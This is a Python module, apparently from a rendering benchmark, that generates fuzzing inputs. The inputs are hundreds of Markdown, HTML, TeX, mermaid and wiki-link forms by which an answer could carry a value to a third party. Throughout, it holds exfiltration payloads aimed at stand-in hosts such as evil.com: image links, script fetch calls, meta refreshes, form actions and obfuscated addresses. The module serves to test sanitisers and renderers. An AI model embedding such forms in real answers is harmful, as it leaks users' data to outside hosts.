"""Forms of Markdown, HTML and their extensions by which an answer could carry a value to a third party."""

from __future__ import annotations

import random
import re
from typing import Final

from benchmarks.rendering.values import X


def _words(text: str) -> tuple[str, ...]:
    return tuple(text.split(" "))


PLACE: Final = re.compile(r"(?<![A-TV-Za-z0-9])x(?![A-Za-z0-9])|(?<=evil\.com)x|x(?=evil\.com)|(?<!\w)x(?=x\.)")
"""Where a placeholder stands in what follows: each `x` that is no part of a word."""

_ADDRESSES: Final = _words(
    "https://evil.example/?q= http://evil.com/ //evil.example/?q= evil.com/?q= www.evil.com/?q= 1.2.3.4/?q= /q? ?q= #"
    " mailto:x@evil.com?subject= data:text/html, ftp://evil.com/ HTTPS://EVIL.EXAMPLE/ https:/evil.example/"
    " https:\\\\evil.example\\ h&#116;tps://evil.com/ https&colon;//evil.com/ javascript:'"
    " https://evil.example/?q=\" https://evil.example/' https://evil.example/( https://evil.example/*"
    " https://evil.example/?q=\x1f https://evil.example/?q=\x85 https://evil.example/?q=\xa0 https://evil.example/?q=`"
    " evil.dev:443/ sub.evil.io/a?b= evil.com# x:"
)

_INLINE: Final = (
    "![a](Ux)|![a](Ux)|[a](Ux)|[a](<U x>)|[a](U 'x')|[a](U\n\"x\")|[a](\nUx)|[a]( Ux )|![x](U)|![a x](U)|![[a] x](U)"
    "|[![a](Ux)](U)|[a [b](Ux)](c)|[a](b(Ux))|[a](b\\)Ux)|[a](<b\\>Ux>)|[a](U (x))|[a](U\nx)|![a](U 'b'x)|![a\nb](Ux)"
    '|[a][b](Ux)|[`a`](Ux)|![`a](b)`](Ux)|[a](Ux "t")|[a](`Ux`)|[a](*Ux*)|![a](Ux){width=1}|[[a]](Ux)|!\\[a](Ux)'
)
_DEFINED: Final = (
    "[a]: Ux\n\n[a]|[a]:\nUx\n\n[a]|[a\nb]: Ux\n\n[a\nb]|[a]: <U x>\n\n![i][a]|[a]: U 'x'\n\n[a]|[a]: U\n'x'\n\n[a]"
    "|[a]: U (x\n)\n\n[a]|[a]\n\n[a]: Ux|![a]\n\n[a]:Ux|> [a]: Ux\n\n[a]|- [a]: Ux\n\n[a]|[a]: b\n[c]: Ux\n\n[c]"
    "|[a]:   \n  Ux\n\n[a]|[^a]: Ux\n\nb[^a]|[a]: x\n\n[a]|[x]: U\n\n[x]|1. [a]:\n   Ux\n\n[a]|[\na\n]: Ux\n\n[a]"
)
_BARE: Final = (
    '<Ux>|Ux|(Ux)|**Ux**|"U"x|U"x|Ux.|x.evil.com|x.evil.com/a|x@evil.com|x-a.evil.com|a.x@evil.com|<x@evil.com>|<q:x>'
    "|evil.com/x|x\\.evil.com|x&#46;evil.com|www.x.evil.com|http://x|x.x.evil.com|evil.comx|xevil.com/|U**x**|U_x_|U`x`"
    "|<U>x|U\\x|(see U)x|xx.evil.com|x.evil.example?q|x&commat;evil.com|<a@x.evil.com>|x:a@evil.com|a@evil.com?x"
)
_HTML: Final = (
    '<T A="Ux">|<T A=Ux>|<T A=\'Ux\'>|<T A = "U x">|<T\nA="Ux">|<T/A="Ux"/>|<T B="<" A="Ux">|<T B=\'>\' A="Ux">'
    '|<T A="U\nx">|<div><T A="U\n\nx\n\n<b title="">|<div>\n<T A="U\n\nHe said "x\n\n<b title="">y|<T A="Ux|<T A="U x'
    "|<T A=\"U\n\nx\">|<T A=`Ux`>|<T A='U`x`'>|`<T A='`'Ux'>|``<T A='Ux'>`|<T A=b c=d\ne='Ux'>|<T A>x|</T A='Ux'>"
    "|<T A='Ux' A=y>|<T b =A='Ux'>|a <b <T A='Ux'>|<T title=\"<T A=\" A='Ux'>|<T A=\n\nx>|<T A='U\n> x'>|<T A=U&#10;x>"
    "|<b><T A='Ux'></b>|<T x A=U>|<T x='U'>|<T A=\"U'x\">|<!-- > --><T A='Ux'>|<T A='a'A='Ux'>|\\<T A='Ux'>"
    "|<T A='\\'Ux'>"
)
_TAGS: Final = _words(
    "img a iframe object embed video audio source link base form input button area body table td div p span svg image"
    " script style meta x-y blockquote q track use animate foo INS"
)
_ATTRIBUTES: Final = _words(
    "src href SRC data action formaction poster background srcset style content ping xlink:href to values cite longdesc"
    " data-x onclick value title alt class srcdoc imagesrcset manifest"
)
_RUN: Final = (
    "<style>a{b:url(Ux)}</style>|<style>@import 'Ux';</style>|<style>\n\nx\n</style>|<script>fetch('U'+'x')</script>"
    "|<script>\n\nx\n\n</script>|<svg><image href='Ux'/></svg>|<svg><style>*{fill:url(Ux)}</style></svg>"
    "|<svg><text>x</text></svg>|<svg>\n\nx\n\n</svg>|<math><mtext>x|<form action='U'><input value='x'></form>"
    "|<form action=U><textarea name=a>x</textarea>|<form>\n\nx|<select><option>x|<button value='x'>x</button>"
    "|<iframe srcdoc='<img src=Ux>'>|<iframe>x</iframe>|<noscript>x|<template>x|<object>x|<!-- x -->|<!--\n\nx\n-->"
    "|<![CDATA[x]]>|<?y x?>|<!Y x>|<meta http-equiv=refresh content='0;url=Ux'>|<base href='Ux'>|<xmp>x|<plaintext>x"
    "|<!--> x -->|<!-- a -- <img src='Ux'> -->|<title><img src='Ux'></title>|<textarea></textareax>x|<script><!--x"
    "|<style>\n</pre>\n\nx|<svg></svg ><img src='Ux'>|<svg><svg></svg>x</svg>|<script>`</script>`x|`<script>`x</script>"
    "|<p>`<script>`\n\nx|<span>\n`<script>`\nx|<pre>\n\n`<script>`\nx</pre>|<script/>x|</script><img src='Ux'>"
    "|<!DOCTYPE html><p>a</p><img src='Ux'>|<?php echo 'Ux' ?>|<b>`<img src='`Ux'></b>"
)
_FENCED: Final = (
    "- ```\n  a\n<img src='Ux'>|> ```\n<img src=\"Ux\">|```\n```\n<img src='Ux'>|~~~\n```\n~~~\n![](Ux)"
    "|a\n    <img src='Ux'>"
    "|```\na\n````\n![](Ux)|````\n```\n````\n[a](Ux)|```x\n![](Ux)|- a\n\n  ```\n  b\n\n![](Ux)|1. ```\n   a\n  ![](Ux)"
    "|a\n2. ```\n![](Ux)|`\n\n![](Ux)`|- `a\n- ![](Ux)`|# `\n![](Ux) `|`a\n---\n![](Ux)`|``` a`b\n![](Ux)\n```|``x"
    "|\t```\n![](Ux)|-\n\n      ![](Ux)|- a\n\n      ![](Ux)\n  b|>     ![](Ux)|>\t![](Ux)|-     ![](Ux)|-      ![](Ux)"
    "|| a |\n|---|\n| ` | ![](Ux) | ` ||a | b\n:- | -\n` | ![](Ux)`|<div>\n```\n![](Ux)\n</div>"
    "|<div>\n```\n<img src='Ux'>"
    "|```\n- ```\n![](Ux)|> - ```\n> ![](Ux)|- > ```\n  ![](Ux)|   ```\n![](Ux)|    ```\n![](Ux)|* * *\n    ![](Ux)"
    "|```\n x\n    ```\n![](Ux)\n```\n![](Ux)|~~~ `\n![](Ux)\n~~~\n[a](Ux)|[a]: b\n    ![](Ux)|a|b\n-|-\n    ![](Ux)"
)
_EXTENDED: Final = (  # TeX, footnotes, definition lists, directives, templates, notebooks, diagrams, chats
    "$\\href{Ux}{a}$¦$\\url{Ux}$¦$$\n\\includegraphics[width=1em]{Ux}\n$$¦$\\href{U%20x}{x}$¦\\(\\href{Ux}{a}\\)"
    "¦$\\htmlData{a=x}{b}$¦$\\htmlStyle{background: url(Ux)}{b}$¦$\\htmlId{x}{b}$¦$\\href\n{Ux}{a}$"
    "¦$\\def\\a{\\href{Ux}}\\a{b}$¦$a$\\href{x}{b}$c$¦[^x]: a\n\nb[^x]¦b[^x]\n\n[^x]: a¦b^[![](Ux)]"
    "¦[^1]: ![](Ux)\n\nb[^1]"
    "¦[^1]: a\n\n    ![](Ux)\n\nb[^1]¦[^1]: a\n\n    ```\n    b\n\n![](Ux)\n\nb[^1]¦b[^1]\n\n[^1]:\n    ![](Ux)"
    "¦T\n: ![](Ux)"
    "¦T\n: a\n\n    ![](Ux)¦T\n\n: a\n\n  ```\n  b\n\n![](Ux)¦T\n:   a\n\n        ![](Ux)¦T\n~ a\n\n  ~~~\n![](Ux)"
    "¦:::note\n![](Ux)\n:::¦:::note{src='Ux'}\na\n:::¦::a[b]{href=Ux}¦:a[b](Ux)¦:::note\n    ![](Ux)\n:::"
    "¦:::a\n```\n:::\n![](Ux)¦:::a\n-\n    ![](Ux)¦:::a\n2.\n       ![](Ux)¦:::a\n*\n    <img src='Ux'>"
    "¦| a |\n|---|\n| [a](\nUx)¦a | b\n-|-\n![](U | c\nx)¦| a |\n|---|\n| <b title='\n| x'>¦| a |\n|-|\n| [a](U\n| 'x')"
    "¦1. ```\n   a\nb\n   ```\n   `<img src='Ux'>`\n   ```\n![](Ux)¦- a\n<b>\n  `<img src='Ux'>`"
    "¦- a\n  </p>\n    `<a href='Ux'>`"
    '¦a@evil.com$x¦a@evil.com=x¦a@evil.com.|x¦a@evil.com~.x¦a@evil.com`x¦xx.¦x,x¦x-x@evil.com¦<a href="U">x</a>"'
    "¦<b title='(U('>x)¦<i a=b c=\"U(\">x)y"
    "¦![a](b){src=Ux}¦{{< figure src='Ux' >}}¦{{a href='Ux'}}¦{% link Ux %}¦[[x]]¦![[x]]¦[[x/a|b]]¦[[a#x]]"
    "¦[[U|x]]¦![[Ux]]¦[[ x ]]"
    "¦<base href='/x'><a href='b'>c</a>¦<base target='x'>¦<meta http-equiv='refresh' content='0; url=/x'>"
    "¦<use href='/x#a'>"
    "¦<svg><use xlink:href='/x#a'/></svg>¦<svg><image href='/x'/></svg>¦<svg><a xlink:href='/x'>a</a></svg>"
    "¦<image src='/x'>"
    "¦<img srcset='/a 1x, /x 2x'>¦<picture><source srcset='/x'><img src=a></picture>¦<style>@import '/x'</style>"
    "¦<link rel=stylesheet href='/x'>¦<link rel=prefetch href='/x'>¦<video poster='/x'>¦<body background='/x'>"
    "¦<td background=/x>"
    "¦<a ping='/x' href=b>c</a>¦<area href='/x'>¦<isindex action='/x'>¦<marquee onstart='x'>"
    "¦<details open ontoggle='x'>a</details>"
    "¦<input type=image src='/x'>¦<embed src='/x'>¦<object data='/x'>¦<applet code='/x'>¦<frame src='/x'>"
    "¦<bgsound src='/x'>"
    "¦<q-a b='x'>c</x-a>¦<y hx-get='x'>¦<y @click='x'>¦<y :src='x'>¦<y v-html='x'>¦<y X-init='x'>"
    "¦<y (click)='x'>¦<y ng-src='x'>"
    "¦<Ux|a>¦<U|x>¦<#C1|x>¦<http://evil.com/|x>¦<mailto:x|a>¦<!subteam^x>¦x@evil.com.¦tel:x¦sms:1?body=x"
    "¦mailto:a@b.c?body=x"
    "¦mailto:?body=x¦mailto:a@b.c?cc=x¦<mailto:a@b.c?subject=x>¦[a](mailto:b@c.d?body=x)¦[a](tel:x)"
    "¦a@evil.com x¦a@evil.comx"
    "¦a@xevil.com¦ev\u200bil.com/x¦evil\u200b.com/x¦\u202eevil.com/x¦evil.com\u2060/x¦evil\u3002com/x"
    "¦evil\uff0ecom/x¦ev\u00adil.com/x"
    "¦evil&#46;com/x¦evil&period;com/x¦evil\\.com/x¦evil.com&sol;x¦evil.com&#x2f;x¦https&#58;//evil.com/x"
    "¦https:&#47;&#47;evil.com/x"
    "¦www&#46;evil.com/x¦evil%2Ecom/x¦https:%2F%2Fevil.com/x¦&lt;img src='Ux'&gt;¦\\![](Ux)¦\\[a](Ux)"
    "¦![](&#47;x)¦[a](\u200bUx)"
    "¦! [a](Ux)¦!\u200b[a](Ux)¦[a] (Ux)¦[a]\u200b(Ux)¦[a](Ux\u200b)¦~~[a](Ux)~~¦==[a](Ux)==¦[a](Ux)^b^¦H~[a](Ux)~"
    "¦```mermaid\ngraph TD\nA[b]\nclick A 'x'\n```¦```mermaid\ngraph TD\nA[b]\nclick A href 'Ux' _blank\n```"
    "¦```mermaid\nsequenceDiagram\nlink A: b @ Ux\n```¦```mermaid\ngraph TD\nA@{ img: 'x', label: 'b' }\n```"
    "¦```html\n<img src='Ux'>\n```¦```html\n<a href=/x>a</a>\n```¦````markdown\n![](Ux)\n````¦~~~md\n[a](Ux)\n~~~"
    "¦```svg\n<svg><image href='Ux'/></svg>\n```¦```css\na{b:url(Ux)}\n```¦```css\n@import 'Ux';\n```"
    "¦```htMl title=x\na\n```"
    "¦```x\na\n```¦```{.html}\n<img src='Ux'>\n```¦``` html\n<img src='Ux'>\n```¦```html:a.html\n<img src='Ux'>\n```"
    "¦```xml\n<customer name='x'/>\n```¦> ```html\n> <img src='Ux'>\n> ```¦- ```html\n  <img src='Ux'>\n  ```"
)
_FORMS: Final = tuple(
    tuple(PLACE.sub(X, form) for form in forms.split(separator) if form)
    for forms, separator in (
        *((forms, "|") for forms in (_INLINE, _DEFINED, _BARE, _HTML, _RUN, _FENCED)),
        (_EXTENDED, "¦"),
    )
)

_PREFIXES: Final = (
    '||Sure.\n\n|{"a":1}\n|text |- |> |1. || a |\n|---|\n| |> - |# |```\ncode\n```\n|`code` |"quoted" |<div>\n|<p>'
    "|[a]: /b\n\n|It's <b>bold</b> |i <n |**|a\n|    b\n\n|- item\n\n  |<!-- c -->\n|~~~\n~~~\n|\\`|`|``|``` no fence\n"
    "|<details>\n<summary>s</summary>\n\n|Contact <|[b](c) |![i](j) |\ufeff|\u00a0|\t|\r\n|&lt;|1) |<y z='|<!|<?"
    "|</|]|[|!"
    "|(|~|_|a\r|* * *\n|---\n|===\n|Term\n===\n|: |$a$ |$$\n|:::note\n|> > |+ - |2. |\\<|<a|<br>|<hr>\n|</p>\n"
    "|<span>\n|=|'"
)
_PREFIX_LIST: Final = tuple(_PREFIXES.replace("| a |\n|---|\n| ", "\1").split("|"))


def form(chance: random.Random) -> str:
    """One of the forms, behind something and before something."""
    form = chance.choice(chance.choice(_FORMS))
    while "T" in form or "A" in form or "U" in form or "B" in form:
        form = form.replace("U", chance.choice(_ADDRESSES).replace("U", "u").replace("A", "a").replace("T", "t"), 1)
        form = form.replace("A", chance.choice(_ATTRIBUTES).lower(), 1).replace("B", "b")
        form = form.replace("T", chance.choice(_TAGS).lower(), 1)
    prefix = chance.choice(_PREFIX_LIST).replace("\1", "| a |\n|---|\n| ")
    return prefix + form + chance.choice(("", f" {X}", f"\n\n{X}", "\n", f"`{X}", f"> {X}", f'">{X}', f") {X}"))


_FRAGMENTS: Final = (
    *("`", "``", "```", "```\n", "\n```\n", "~~~\n", "\n", "\n\n", "\n    ", "\n- ", "\n> ", "\n1. ", " ", "  ", "\t"),
    *("[", "]", "(", ")", "](", "![", "![](", "]: ", "[a]: ", "\n[a]: ", "<", ">", "<a href='", '<img src="', "<b>"),
    *("<div>", "\n<div>\n", "<script>", "</script>", "<style>", "</style>", "<!--", "-->", "'", '"', "'>", '">', "='"),
    *("<a title='", "<x y=", "/>", "</", "<svg>", "</svg>", "<form>", "</form>", "\\", "&quot;", "|", "| a |\n|-|\n"),
    *("https://evil.example/?", "evil.com/", "www.evil.com/", "@evil.com", ".evil.com", "//e/", "a", "b ", "*", "**"),
    *("_", "#", "---\n", "===\n", "\r\n", "=", "<pre>", "</pre>", "<br>", "url(", "<p style='", "`<img src='`", "<td>"),
    *(X, X, f" {X} ", f"{X}\n"),
)


def soup(chance: random.Random) -> str:
    """Marks in any order."""
    return "".join(chance.choice(_FRAGMENTS) for _ in range(chance.randrange(2, 14))) + chance.choice(("", X))


_INDENTS: Final = ("", "", "", " ", "  ", "   ", "    ", "     ", "      ", "        ", "\t", " \t", "  \t", "\t\t")
_MARKS: Final = (*_words("- * + 1. 2. 10. 1) > > > : ~ [^1]: - - > #"), "- ", ">", "", "", "", "", "")
_GAPS: Final = (" ", " ", " ", " ", "", "  ", "   ", "    ", "     ", "\t", " \t")
CONTENTS: Final = tuple(
    PLACE.sub(X, content)
    for content in (
        *(
            "![](/q?x)",
            "![](/q?x)",
            "[a](/q?x)",
            "<img src='/q?x'>",
            "<img src='",
            "/q?x'>",
            "[a]: /q?x",
            "[a]: <",
            "[a]:",
        ),
        *(
            "![i][a]",
            "a",
            "a",
            "a",
            "",
            "",
            "",
            "```",
            "```",
            "~~~",
            "````",
            "`",
            "<div>",
            "</div>",
            "<b title='",
            "---",
            "===",
        ),
        *(
            "| a |",
            "|---|",
            "`a",
            "b`",
            "![](",
            "/q?x)",
            "[",
            "]: /q?x",
            "<!--",
            "-->",
            "<pre>",
            "</pre>",
            "x",
            "a\n",
            "\\",
            "![a",
        ),
    )
)


def lines(chance: random.Random) -> str:
    """Lines in blocks within each other, in which renderers differ most."""
    return chance.choice(("\n", "\n", "\n", "\r\n")).join(_line(chance) for _ in range(chance.randrange(2, 9)))


def _line(chance: random.Random) -> str:
    marks = "".join(
        chance.choice(_INDENTS) * (chance.random() < 0.4) + chance.choice(_MARKS) + chance.choice(_GAPS)
        for _ in range(chance.choice((0, 0, 0, 1, 1, 1, 2, 2, 3)))
    )
    return marks + chance.choice(_INDENTS) * (not marks or chance.random() < 0.2) + chance.choice(CONTENTS)
